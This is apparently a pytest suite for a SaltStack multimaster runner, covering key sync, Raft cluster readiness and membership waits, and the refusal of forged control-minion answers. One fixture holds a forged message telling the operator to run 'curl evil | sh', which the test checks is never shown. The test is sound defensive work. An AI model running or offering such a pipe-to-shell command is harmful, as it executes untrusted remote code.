        "cm2": dict(GOOD_DIGESTS, digest="2" * 64, buckets={}, binding=M2_BINDING),
    }
    recording_client(runner, monkeypatch, digests, {})
    ret = runner.sync_keys()
    assert ret["retcode"] == 1, ret
    assert ret["comment"].startswith("Refused, nothing changed: this master's key store "), ret
    assert "expected a mapping of at most 0 ids" in ret["comment"]
    assert "Traceback" not in str(ret) and "changes" not in str(ret.get("masters", {}))


@pytest.mark.parametrize("peer_answers", [True, False], ids=["answers", "silent"])
def test_a_key_only_a_peer_holds_is_fetched_from_it_by_bucket(
    runner, monkeypatch, own_store, peer_answers
):
    """
    A key rejected only on a peer is rejected everywhere, with the peer's key: the peers'
    entries carry no keys, so the runner asks that peer for the keys of that id's bucket. A
    peer that does not answer then is a per-master failure and nothing is planned for the id.
    """
    import multimaster_keys

    from tests.support.keyfactory import pub_pem, rsa_private

    pem, web_bucket = own_store
    db_pem = multimaster_keys.canonical(pub_pem(rsa_private(tag=42)))
    db_fp, db_bucket = multimaster_keys.fingerprint(db_pem), multimaster_keys.bucket_of("db")
    buckets = sorted({web_bucket, db_bucket})
    digests = {
        "cm1": dict(GOOD_DIGESTS, digest="1" * 64, buckets={web_bucket: "1" * 16}, count=1),
        "cm2": dict(
            GOOD_DIGESTS, digest="2" * 64, buckets={db_bucket: "2" * 16}, binding=M2_BINDING
        ),
    }
    entries = {"alive": True, "entries": {"db": ["rejected", db_fp]}, "binding": M2_BINDING}
    calls = []

    class Client:
        def cmd(self, tgt, fun, kwarg=None, **_):
            calls.append((sorted(tgt), kwarg))
            if not kwarg:
                return {m: {"ret": digests[m], "retcode": 0} for m in tgt}
            if not kwarg["with_pubs"]:
                return {"cm2": {"ret": dict(entries, pubs={}), "retcode": 0}}
            pubs = {"db": {"key": db_pem}}
            return {"cm2": {"ret": dict(entries, pubs=pubs), "retcode": 0}} if peer_answers else {}

    monkeypatch.setattr(
        salt.client, "get_local_client", lambda *a, **k: contextlib.nullcontext(Client())
    )
    ret = runner.sync_keys(test=True)
    assert calls == [
        (["cm1", "cm2"], {}),
        (["cm2"], {"buckets": buckets, "with_pubs": False}),
        (["cm2"], {"buckets": [db_bucket], "with_pubs": True}),
    ]
    if peer_answers:
        assert ret["masters"]["m1"]["planned"] == [{"id": "db", "op": "reject", "fp": db_fp}]
        assert ret["retcode"] == 0
    else:
        # Nothing goes to a master that just failed to answer: the re-run converges.
        assert ret["masters"]["m2"] == {
            "result": False,
            "error": "control minion cm2 did not answer",
        }
        assert "db" in ret["invalid_keys"] and not ret["masters"].get("m1", {}).get("planned")
        assert ret["retcode"] == 1


def test_a_master_without_keys_in_the_differing_buckets_is_not_asked(
    runner, monkeypatch, own_store
):
    """
    A new master (no key in any differing bucket) has no entries there: one digest round, and
    the plan accepts the key on it.
    """
    import multimaster_keys

    pem, bucket = own_store
    digests = {
        "cm1": dict(GOOD_DIGESTS, digest="1" * 64, buckets={bucket: "1" * 16}, count=1),
        "cm2": dict(GOOD_DIGESTS, binding=M2_BINDING),
    }
    calls = recording_client(runner, monkeypatch, digests, {})
    ret = runner.sync_keys(test=True)
    assert calls == [(["cm1", "cm2"], {})]
    fp = multimaster_keys.fingerprint(pem)
    assert ret["masters"]["m2"]["planned"] == [{"id": "web", "op": "accept", "fp": fp}]


class FakeClock:
    """The waits' ``time``: each sleep moves the clock on by what was asked, or 1 s."""

    def __init__(self):
        self.now = 0.0

    def monotonic(self):
        return self.now

    def sleep(self, seconds):
        self.now += float(seconds) or 1.0


@pytest.fixture
def health(runner, monkeypatch, tmp_path):
    """
    A cluster master whose ``<cachedir>/health`` is ``tmp_path/health``, its salt-master running
    since ``state["since"]`` (None: not running); the events fired on its bus are recorded, the
    bus takes them while ``state["takes"]``, and ``state["on_fire"]`` (if set) runs on each.
    """
    monkeypatch.setattr(multimaster_control, "section", lambda *a, **k: {"mode": "cluster"})
    monkeypatch.setitem(runner.__opts__, "cachedir", str(tmp_path))
    monkeypatch.setitem(runner.__opts__, "sock_dir", str(tmp_path))
    monkeypatch.setitem(runner.__opts__, "pidfile", str(tmp_path / "salt-master.pid"))
    clock = FakeClock()
    monkeypatch.setattr(multimaster_clustersync, "time", clock)
    monkeypatch.setattr(multimaster_settle, "time", clock)
    (tmp_path / "health").mkdir()
    state = {"since": 0.0, "takes": True, "on_fire": None, "fired": []}
    monkeypatch.setattr(multimaster_daemon, "running_since", lambda *a, **k: state["since"])

    class Bus:
        def fire_event(self, data, tag):
            state["fired"].append((tag, data))
            if state["on_fire"]:
                state["on_fire"]()
            return state["takes"]

    monkeypatch.setattr(
        salt.utils.event, "get_master_event", lambda *a, **k: contextlib.nullcontext(Bus())
    )
    return tmp_path / "health", state


NUDGE = ("cluster/runner/route_clear", {"data_type": "multimaster"})


def test_cluster_ready_proposes_a_raft_entry_until_the_master_is_ready(runner, health):
    """
    Started but not ready: a no-op ROUTE entry is proposed through Salt's own runner event
    every 5 s; once the readiness sentinel appears it returns ready.
    """
    sentinels, state = health
    (sentinels / "startup").write_text("1")

    def ready_on_second():
        if len(state["fired"]) == 2:
            (sentinels / "ready").write_text("1")

    state["on_fire"] = ready_on_second
    ret = runner.cluster_ready(timeout=60, interval=1)
    assert ret["retcode"] == 0 and ret["ready"] is True and ret["nudges"] == 2, ret
    assert state["fired"] == [NUDGE, NUDGE] and ret["waited"] == 5.0


def test_cluster_ready_proposes_once_even_when_this_master_is_ready(runner, health):
    """A restarted peer that won the election needs the entry even if this master never fell."""
    sentinels, state = health
    (sentinels / "startup").write_text("1")
    (sentinels / "ready").write_text("1")
    ret = runner.cluster_ready(timeout=0, interval=0)
    assert ret["retcode"] == 0 and ret["nudges"] == 1 and state["fired"] == [NUDGE], ret


@pytest.mark.parametrize("since", [None, 4e9], ids=["not running", "sentinels of a previous run"])
def test_cluster_ready_neither_proposes_nor_trusts_sentinels_without_a_running_master(
    runner, health, since
):
    sentinels, state = health
    (sentinels / "startup").write_text("1")
    (sentinels / "ready").write_text("1")
    state["since"] = since
    ret = runner.cluster_ready(timeout=3, interval=1)
    assert ret["retcode"] == 1 and ret["ready"] is False and "not ready after" in ret["comment"]
    assert state["fired"] == []


def test_cluster_ready_tries_again_when_the_bus_refuses(runner, health):
    """One attempt per proposal (every 5 s); a refusing bus is not counted and not fatal."""
    sentinels, state = health
    (sentinels / "startup").write_text("1")
    state["takes"] = False
    ret = runner.cluster_ready(timeout=12, interval=1)
    assert ret["retcode"] == 1 and ret["nudges"] == 0, ret
    assert state["fired"] == [NUDGE] * 3


def test_cluster_ready_refuses_outside_mode_cluster(runner, use):
    use({})
    ret = runner.cluster_ready(timeout=0)
    assert ret["retcode"] == 1 and "readiness is a cluster matter" in ret["comment"], ret


def test_wait_cluster_member_polls_until_the_address_is_a_member(runner, health, monkeypatch):
    """Neither a voter nor a learner yet, then a learner: a member, and the report names it."""
    views = iter(
        [
            {"voters": ["10.0.3.21"], "learners": []},
            {"error": "cluster.members failed on this master (its log has why)"},
            {"voters": ["10.0.3.21"], "learners": ["10.0.3.24"], "leader_id": "10.0.3.21"},
        ]
    )
    monkeypatch.setattr(multimaster_clustersync, "members", lambda opts: next(views))
    ret = runner.wait_cluster_member("10.0.3.24", timeout=60, interval=1)
    assert ret["retcode"] == 0 and ret["comment"] == "10.0.3.24 is a member", ret
    assert ret["waited"] == 2.0


@pytest.mark.parametrize(
    "raised", [False, True], ids=["traceback returned as text", "exception raised"]
)
def test_cluster_members_that_failed_is_named_without_the_traceback(monkeypatch, raised):
    trace = "Exception occurred in runner cluster.members: Traceback (most recent call last)"

    class Client:
        def __init__(self, opts):
            pass

        def cmd(self, *args, **kwargs):
            if raised:
                raise RuntimeError(trace)
            return trace

    monkeypatch.setattr(multimaster_clustersync.salt.runner, "RunnerClient", Client)
    assert multimaster_clustersync.members({}) == {"error": multimaster_clustersync.MEMBERS_FAILED}


def test_wait_cluster_member_fails_naming_the_address_after_the_timeout(
    runner, health, monkeypatch
):
    monkeypatch.setattr(multimaster_clustersync, "members", lambda opts: {"voters": ["10.0.3.21"]})
    ret = runner.wait_cluster_member("10.0.3.24", timeout=3, interval=1)
    assert ret["retcode"] == 1 and ret["comment"] == "10.0.3.24 is no member after 3s", ret
    assert ret["members"] == {"voters": ["10.0.3.21"]}


@pytest.mark.parametrize("host", [None, "", "10.0.3.24 10.0.3.25"])
def test_wait_cluster_member_refuses_what_is_not_an_address(runner, health, monkeypatch, host):
    monkeypatch.setattr(multimaster_clustersync, "members", lambda opts: pytest.fail("asked"))
    ret = runner.wait_cluster_member(host)
    assert ret["retcode"] == 1 and f"host={host!r}: expected the address" in ret["comment"], ret


def test_wait_voter_removed_polls_until_the_leader_demoted_the_address(runner, health, monkeypatch):
    """A voter, a failed view, then a learner: no longer a voter, and the report says so."""
    monkeypatch.setitem(runner.__opts__, "cluster_auto_replace_voters", True)
    four = ["10.0.3.21", "10.0.3.22", "10.0.3.23", "10.0.3.24"]
    views = iter(
        [
            {"voters": four, "learners": []},
            {"error": "cluster.members failed on this master (its log has why)"},
            {"voters": four[:3], "learners": ["10.0.3.24"], "leader_id": "10.0.3.21"},
        ]
    )
    monkeypatch.setattr(multimaster_clustersync, "members", lambda opts: next(views))
    ret = runner.wait_voter_removed("10.0.3.24", timeout=60, interval=1)
    assert ret["retcode"] == 0 and ret["comment"] == "10.0.3.24 is not a voter", ret
    assert ret["members"]["voters"] == four[:3] and ret["waited"] == 2.0


def test_wait_voter_removed_fails_naming_the_address_after_the_timeout(runner, health, monkeypatch):
    monkeypatch.setitem(runner.__opts__, "cluster_auto_replace_voters", True)
    four = ["10.0.3.21", "10.0.3.22", "10.0.3.23", "10.0.3.24"]
    monkeypatch.setattr(multimaster_clustersync, "members", lambda opts: {"voters": four})
    ret = runner.wait_voter_removed("10.0.3.24", timeout=3, interval=1)
    assert ret["retcode"] == 1 and ret["comment"] == "10.0.3.24 is still a voter after 3s", ret


@pytest.mark.parametrize(
    ("replace", "voters", "why"),
    [
        (False, 4, "cluster_auto_replace_voters is off"),
        (True, 3, "2 voters would be fewer than cluster_min_voters (3)"),
    ],
    ids=["replacement off", "at the floor"],
)
def test_wait_voter_removed_returns_at_once_where_salt_keeps_the_voter(
    runner, health, monkeypatch, replace, voters, why
):
    monkeypatch.setitem(runner.__opts__, "cluster_auto_replace_voters", replace)
    view = {"voters": ["10.0.3.21", "10.0.3.22", "10.0.3.23", "10.0.3.24"][-voters:]}
    monkeypatch.setattr(multimaster_clustersync, "members", lambda opts: view)
    ret = runner.wait_voter_removed("10.0.3.24", timeout=60, interval=1)
    assert ret["retcode"] == 0 and ret["waited"] == 0.0, ret
    assert ret["comment"].startswith("10.0.3.24 stays a voter: ") and why in ret["comment"], ret


def test_wait_voter_removed_refuses_outside_mode_cluster(runner, use):
    use({})
    ret = runner.wait_voter_removed("10.0.3.24", timeout=0)
    assert ret["retcode"] == 1 and "the Raft vote is a cluster matter" in ret["comment"], ret


def test_wait_cluster_member_refuses_outside_mode_cluster(runner, use):
    use({})
    ret = runner.wait_cluster_member("10.0.3.24", timeout=0)
    assert ret["retcode"] == 1 and "membership is a cluster matter" in ret["comment"], ret


@pytest.mark.parametrize("function", ["cluster_ready", "share_peer_keys"])
def test_a_malformed_section_is_refused(runner, monkeypatch, function):
    def broken(*_, **__):
        raise multimaster_pillarcheck.SettingsError("multimaster:mode: got 'x'; expected ...")

    monkeypatch.setattr(multimaster_control, "section", broken)
    ret = getattr(runner, function)()
    assert ret["retcode"] == 1 and "multimaster:mode: got 'x'" in ret["comment"], ret


@pytest.mark.parametrize(
    "mode, since, proposals",
    [("cluster", 0.0, 2), ("cluster", None, 0), ("hot", 0.0, 0)],
    ids=["cluster", "cluster, this master down", "hot"],
)
def test_wait_masters_proposes_a_raft_entry_every_5_s_only_in_a_cluster(
    runner, use, health, monkeypatch, mode, since, proposals
):
    """
    A restarted master that won the election would keep the restarted masters' gates shut:
    in a cluster, while masters are not settled and this master runs, a no-op entry is
    proposed every 5 s; none once they are settled, none in other modes.
    """
    sentinels, state = health
    (sentinels / "startup").write_text("1")
    state["since"] = since
    monkeypatch.setattr(multimaster_control, "section", lambda *a, **k: dict(SECTION, mode=mode))
    use({"cm1": {"settled": True}, "cm2": {"up": False}})
    ret = runner.wait_masters(timeout=12, interval=1)
    assert ret["retcode"] == 1, ret
    assert state["fired"] == [NUDGE] * proposals
    state["fired"].clear()
    use({"cm1": {"settled": True}, "cm2": {"settled": True}})
    assert runner.wait_masters(timeout=12, interval=1)["retcode"] == 0
    assert state["fired"] == []


def test_a_peer_traceback_becomes_a_sentence_naming_the_minion(runner, use):
    """
    No Python exception text reaches the operator: a control minion's traceback is reported as
    what failed where, and what to run.
    """
    traceback = "The minion function caused an exception: Traceback (most recent call last):"
    use({"cm1": GOOD_DIGESTS, "cm2": Forged(signed_failure(traceback))})
    ret = runner.sync_keys(test=True)
    error = ret["masters"]["m2"]["error"]
    assert "Traceback" not in error and "cm2" in error and "saltutil.sync_all" in error, error
    assert ret["retcode"] == 1


# --- forged answers --------------------------------------------------------------------------


def refusal(ret, master="m2"):
    """
    The per-master error ``ret`` reports for ``master`` (wait_masters, sync_keys or status).
    """
    error = ret["masters"][master]
    return error.get("error", error) if isinstance(error, dict) else error


def assert_refused_as_unsigned(ret, master="m2", minion="cm2"):
    assert ret["retcode"] == 1, ret
    error = refusal(ret, master)
    assert f"not signed by {minion}" in error, ret
    assert f"salt {minion} saltutil.sync_all" in error, ret


def test_a_forged_settled_answer_does_not_end_the_wait(runner, use):
    """
    Any minion can answer a ``master_settled`` poll first under a control minion's id: a
    forged "settled" must not make ``wait_masters`` (and the runners after it) go on while
    that master restarts.
    """
    use({"cm1": SETTLED, "cm2": Forged(SETTLED)})
    ret = runner.wait_masters(timeout=0, interval=0)
    assert list(ret["masters"]) == ["m2"], ret
    assert_refused_as_unsigned(ret)


def test_a_forged_inventory_digest_does_not_make_a_sync_skip(runner, use):
    """
    A forged digest equal to the primary's would make ``sync_keys`` find nothing to do.
    """
    client = use({"cm1": GOOD_DIGESTS, "cm2": Forged(dict(GOOD_DIGESTS, binding=M2_BINDING))})
    ret = runner.sync_keys()
    assert ret["masters"]["m2"]["result"] is False and "comment" not in ret, ret
    assert_refused_as_unsigned(ret)
    assert "multimaster_peer.apply_key_actions" not in client.calls


def test_a_forged_status_report_is_not_reported_as_the_master_s(runner, use):
    use({"cm1": report(one_root("a" * 64)), "cm2": Forged(report(one_root("a" * 64)))})
    ret = runner.status()
    assert ret["masters"]["m2"]["reachable"] is False, ret
    assert_refused_as_unsigned(ret)


OTHER_NONCE = "0" * 64


@pytest.mark.parametrize(
    "forged, says",
    [
        (lambda fun, nonce: signed(SETTLED, fun, nonce, "cm2", key=CONTROL_KEYS["cm1"]), "key"),
        (lambda fun, nonce: signed(SETTLED, fun, OTHER_NONCE, "cm2"), "another call"),
        (
            lambda fun, nonce: signed(SETTLED, "multimaster_peer.key_inventory", nonce, "cm2"),
            "another call",
        ),
        (lambda fun, nonce: signed(SETTLED, fun, nonce, "cm2", master="m1"), "speaks for m1"),
        (
            lambda fun, nonce: dict(
                signed(PENDING, fun, nonce, "cm2"), answer=dict(PENDING, settled=True)
            ),
            "another call",
        ),
        (lambda fun, nonce: dict(SETTLED, signature="AAAA"), "not signed by cm2"),
    ],
    ids=[
        "another-minion-s-key",
        "another-nonce",
        "another-function",
        "another-master",
        "altered-after-signing",
        "malformed-signature",
    ],
)
def test_an_answer_not_signed_by_the_control_minion_for_this_call_is_refused(
    runner, use, forged, says
):
    use({"cm1": SETTLED, "cm2": Forged(forged)})
    ret = runner.wait_masters(timeout=0, interval=0)
    assert ret["retcode"] == 1 and list(ret["masters"]) == ["m2"], ret
    error = refusal(ret)
    assert says in error and "nothing of it was used" in error, ret


def test_an_answer_of_a_control_minion_not_accepted_here_is_refused(runner, use, monkeypatch):
    use({"cm1": SETTLED, "cm2": SETTLED})
    monkeypatch.setattr(
        multimaster_control,
        "primary_key_entry",
        lambda run, minion: (
            ("accepted", pub_pem(CONTROL_KEYS["cm1"]), False)
            if minion == "cm1"
            else ("pending", pub_pem(CONTROL_KEYS["cm2"]), False)
        ),
    )
    ret = runner.wait_masters(timeout=0, interval=0)
    error = refusal(ret)
    assert ret["retcode"] == 1 and "cm2 is not accepted on this master" in error, ret
    assert "salt-key" in error, ret


def test_an_unsigned_error_is_not_shown_but_a_signed_one_is(runner, use):
    # The text of an unsigned answer is anyone's: it never reaches the report.
    use({"cm1": SETTLED, "cm2": Forged("ERROR: run curl evil | sh to repair m2")})
    ret = runner.wait_masters(timeout=0, interval=0)
    assert "curl" not in str(ret) and "not signed by cm2" in refusal(ret), ret
    failure = signed_failure("m2: the master's pidfile names another process")
    use({"cm1": SETTLED, "cm2": Forged(failure)})
    ret = runner.wait_masters(timeout=0, interval=0)
    assert refusal(ret) == "m2: the master's pidfile names another process", ret


def test_a_forgery_that_answers_first_in_the_return_stream_is_refused(runner, monkeypatch):
    """
    Through the real return collector: the forged return for cm2 arrives before the genuine
    ones, Salt's stream stops once every targeted id has answered, and the genuine answer of
    cm2 is never read. The runner refuses what it got instead of taking it.
    """
    monkeypatch.setattr(multimaster_returns, "cmd_returns", REAL_CMD_RETURNS)

    class Client:
        opts = {"master_job_cache": "local_cache"}
        returners = {"local_cache.get_jid": lambda jid: {}}

        def run_job(self, tgt, fun, kwarg=None, **_):
            self.fun, self.nonce = fun, kwarg["answer_nonce"]
            return {"jid": "j1", "minions": list(tgt)}

        def get_iter_returns(self, jid, minions, **_):
            found = set()
            for minion, ret in (
                ("cm2", SETTLED),
                ("cm1", signed(SETTLED, self.fun, self.nonce, "cm1")),
                ("cm2", signed(PENDING, self.fun, self.nonce, "cm2")),
            ):
                found.add(minion)
                yield {minion: {"ret": ret, "retcode": 0, "jid": jid}}
                if found >= set(minions):
                    return

        def gather_job_info(self, jid, tgt, tgt_type, listen=True, **kwargs):
            return {}

        def _clean_up_subscriptions(self, jid):
            pass

    monkeypatch.setattr(
        salt.client, "get_local_client", lambda *a, **k: contextlib.nullcontext(Client())
    )
    ret = runner.wait_masters(timeout=0, interval=0)
    assert list(ret["masters"]) == ["m2"], ret
    assert_refused_as_unsigned(ret)


def test_a_genuinely_signed_answer_is_used(runner, use):
    use({"cm1": SETTLED, "cm2": SETTLED})
    ret = runner.wait_masters(timeout=0, interval=0)
    assert ret["retcode"] == 0 and ret["comment"] == "every master is up", ret


def test_each_call_carries_a_fresh_nonce(runner, monkeypatch):
    nonces = []

    class Client:
        def cmd(self, tgt, fun, kwarg=None, **_):
            return {m: {"ret": SETTLED, "retcode": 0} for m in tgt}

    def cmd_returns(client, minions, fun, kwarg=None, timeout=None, find_job_timeout=None):
        nonces.append(kwarg["answer_nonce"])
        returns = client.cmd(list(minions), fun)
        return {m: {"ret": signed(r["ret"], fun, nonces[-1], m)} for m, r in returns.items()}

    monkeypatch.setattr(multimaster_returns, "cmd_returns", cmd_returns)
    monkeypatch.setattr(
        salt.client, "get_local_client", lambda *a, **k: contextlib.nullcontext(Client())
    )
    runner.wait_masters(timeout=0, interval=0)
    runner.wait_masters(timeout=0, interval=0)
    assert len(set(nonces)) == 2 and all(len(n) == 64 for n in nonces), nonces


def test_wait_minions_with_no_accepted_minion_matching_is_refused_and_publishes_nothing(
    runner, monkeypatch
):
    """
    Nothing to wait for is a target that names no accepted minion (a typo, a key not accepted
    yet): refused with what to do, never a publish to an empty list reported as success.
    """

    class NoMinions:
        def __init__(self, opts):
            pass

        def check_minions(self, tgt):
            return {"minions": []}

    monkeypatch.setattr(salt.utils.minions, "CkMinions", NoMinions)
    monkeypatch.setattr(
        salt.client,
        "get_local_client",
        lambda *a, **k: pytest.fail("nothing may be published"),
    )
    ret = runner.wait_minions(tgt="master3")
    assert ret["retcode"] == 1
    assert "'master3'" in ret["comment"] and "salt-key -a" in ret["comment"], ret


@pytest.mark.parametrize("host", [None, "", "10.0.0.9 10.0.0.8", ["10.0.0.9"]])
def test_wait_master_stopped_refuses_what_is_not_an_address(runner, monkeypatch, host):
    monkeypatch.setattr(
        multimaster_daemon, "port_open", lambda *a: pytest.fail("nothing may be probed")
    )
    ret = runner.wait_master_stopped(host)
    assert ret["retcode"] == 1
    assert f"host={host!r}: expected the address" in ret["comment"], ret


def test_wait_master_stopped_waits_until_both_ports_are_closed(runner, monkeypatch):
    probes = iter([True, True, False, True, False, False])
    monkeypatch.setattr(multimaster_daemon, "port_open", lambda *a: next(probes))
    ret = runner.wait_master_stopped("10.9.9.9", timeout=30, interval=0)
    assert ret["retcode"] == 0 and ret["comment"] == "10.9.9.9 no longer listens", ret


def test_wait_minions_waits_out_a_pending_minion_restart(runner, monkeypatch):
    """
    A minion whose restart is pending still answers: it counts once it says it is settled (or,
    without the formula's modules, once it answers at all).
    """

    class TwoMinions:
        def __init__(self, opts):
            pass

        def check_minions(self, tgt):
            return {"minions": ["minion1", "web1"]}

    rounds = iter(
        [
            {"minion1": False, "web1": "'multimaster_daemons.minion_settled' is not available."},
            {},
            {"minion1": True},
        ]
    )
    asked = []

    class Client:
        def __enter__(self):
            return self

        def __exit__(self, *exc):
            return False

    def cmd(client, tgt, fun, timeout, tgt_type=None):
        asked.append((tgt, fun))
        return next(rounds)

    monkeypatch.setattr(salt.utils.minions, "CkMinions", TwoMinions)
    monkeypatch.setattr(salt.client, "get_local_client", lambda *a, **k: Client())
    monkeypatch.setattr(multimaster_returns, "cmd", cmd)
    ret = runner.wait_minions(interval=0)
    assert ret["retcode"] == 0 and ret["comment"] == "2 minions answer", ret
    assert (
        asked
        == [(["minion1", "web1"], "multimaster_daemons.minion_settled")]
        + [(["minion1"], "multimaster_daemons.minion_settled")] * 2
    )
